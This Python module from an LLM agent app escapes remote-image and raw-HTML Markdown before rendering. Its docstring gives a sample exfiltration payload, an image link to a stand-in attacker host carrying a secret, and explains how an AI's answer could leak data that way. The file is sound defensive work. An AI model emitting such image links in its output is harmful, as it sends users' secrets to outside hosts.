"""The last line of defence before Markdown reaches a renderer: no remote images, no raw HTML.

The renderer escapes what tools read from the database (agent/render.py ``md_text``); an LLM's
answer or a stored message may still carry ``![x](http://attacker/?c=secret)`` (a browser fetches it
on display: data leaves by image) or an HTML tag. ``safe_markdown`` neutralises both outside code:

    safe_markdown("see ![x](http://a/p.png) <img src=x>")  ->  "see !\\[x](http://a/p.png) \\<img src=x>"

Everything else (links, tables, emphasis, code) is left as it was, so ordinary answers come out unchanged.
"""
from __future__ import annotations

import re
from bisect import bisect_right

_PUNCT = set("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_OPEN = re.compile(r"(`{3,}|~{3,})")  # at the start of a line: an indented fence may sit in a list item that ends early
_CLOSE = re.compile(r" {0,3}(`{3,}|~{3,})\s*$")


class _Spans:
    """Where code spans end, found in O(log n) per opening run (no rescans: long texts stay linear)."""

    def __init__(self, s: str):
        self.runs: dict[int, list[int]] = {}  # run length -> start of each maximal backtick run
        for m in re.finditer(r"`+", s):
            self.runs.setdefault(m.end() - m.start(), []).append(m.start())
        # a span is searched on its line and table cell only: one that seems to go on past a line break or a
        # "|" is not trusted to hide what follows (a new paragraph or table cell ends it)
        self.stops = [m.start() for m in re.finditer(r"[\n|]", s)]

    def end(self, i: int, run: int) -> int:
        """End of the code span whose opening run of ``run`` backticks starts at ``i``, or -1."""
        starts = self.runs.get(run, [])
        k = bisect_right(starts, i)
        if k == len(starts):
            return -1
        stop = bisect_right(self.stops, i)
        if stop < len(self.stops) and self.stops[stop] < starts[k]:
            return -1
        return starts[k] + run


def _prose(s: str) -> str:
    """Escape image openers and HTML tag openers in text that is not code."""
    spans = _Spans(s) if "`" in s else None
    out: list[str] = []
    i, n = 0, len(s)
    while i < n:
        c = s[i]
        if c == "\\" and i + 1 < n and s[i + 1] in _PUNCT:  # an escape stays as it is
            out.append(s[i:i + 2])
            i += 2
        elif c == "`" and spans is not None:  # a code span: copied untouched up to the closing run of its length
            j = i
            while j < n and s[j] == "`":
                j += 1
            run = j - i
            end = spans.end(i, run)
            if end < 0:  # no closing run: the backticks are literal text
                out.append(s[i:i + run])
                i += run
            else:
                out.append(s[i:end])
                i = end
        elif c == "!" and s.startswith("[", i + 1):
            out.append("!\\[")
            i += 2
        elif c == "<" and i + 1 < n and (s[i + 1].isascii() and s[i + 1].isalpha() or s[i + 1] in "/!?"):
            out.append("\\<")
            i += 1
        else:
            out.append(c)
            i += 1
    return "".join(out)


def safe_markdown(text: str) -> str:
    """``text`` with remote images and raw HTML turned into literal text; fenced code is left alone."""
    if not text or ("![" not in text and "<" not in text):
        return text or ""
    lines = text.split("\n")
    out: list[str] = []
    prose: list[str] = []
    fence = ""
    for line in lines:
        if fence:
            out.append(line)
            m = _CLOSE.match(line)
            if m and m.group(1)[0] == fence[0] and len(m.group(1)) >= len(fence):
                fence = ""
            continue
        m = _OPEN.match(line)
        if m and not (m.group(1)[0] == "`" and "`" in line[m.end():]):
            if prose:
                out.append(_prose("\n".join(prose)))
                prose = []
            fence = m.group(1)
            out.append(line)
            continue
        prose.append(line)
    if prose:
        out.append(_prose("\n".join(prose)))
    return "\n".join(out)
